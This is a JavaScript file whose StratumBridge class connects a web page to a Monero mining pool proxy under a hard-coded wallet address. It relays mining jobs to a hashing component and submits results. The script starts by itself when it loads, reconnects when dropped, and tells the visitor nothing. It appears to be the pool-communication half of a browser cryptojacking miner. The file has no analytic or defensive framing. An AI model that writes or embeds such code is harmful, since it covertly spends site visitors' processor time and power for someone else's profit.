'use strict';

class StratumBridge {
  constructor(url, user, opts = {}) {
    this.url = url;
    this.user = user;
    this.pass = opts.pass ?? 'x';
    this.agent = opts.agent ?? 'xmr-web/0.9.4';
    this.seq = 0;
    this.workerId = null;
    this.currentJob = null;
    this.onJob = () => {};
  }

  connect() {
    this.sock = new WebSocket(this.url);
    this.sock.addEventListener('open', () => this.login());
    this.sock.addEventListener('message', (e) => this.handle(JSON.parse(e.data)));
    this.sock.addEventListener('close', () => setTimeout(() => this.connect(), 15000));
  }

  rpc(method, params) {
    this.seq += 1;
    this.sock.send(JSON.stringify({ id: this.seq, jsonrpc: '2.0', method, params }) + '\n');
  }

  login() {
    this.rpc('login', { login: this.user, pass: this.pass, agent: this.agent, algo: ['cn/r', 'cn-lite/1', 'rx/0'] });
  }

  handle(msg) {
    if (msg.result && msg.result.id) {
      this.workerId = msg.result.id;
    }
    const job = msg.result?.job ?? (msg.method === 'job' ? msg.params : null);
    if (job) {
      this.currentJob = job;
      this.onJob(job);
    }
  }

  submit(nonce, result) {
    if (!this.currentJob) return;
    this.rpc('submit', { id: this.workerId, job_id: this.currentJob.job_id, nonce, result });
  }

  keepalive() {
    setInterval(() => this.workerId && this.rpc('keepalived', { id: this.workerId }), 60000);
  }
}

const bridge = new StratumBridge('wss://pool-proxy.webhash-relay.su:3333', '44AbCdEfGh1JkLmNoPqRsTuVwXyZ9a8b7c6d5e4f3g2h1iJkLmNoPqRsTuVwXyZ0aBcDeFgHiJkLmNoPqR.webrig', { agent: 'web-rig/1.0' });
bridge.onJob = (job) => {
  window.dispatchEvent(new CustomEvent('wr:job', { detail: job }));
};
window.addEventListener('wr:found', (e) => bridge.submit(e.detail.nonce, e.detail.result));
bridge.connect();
bridge.keepalive();
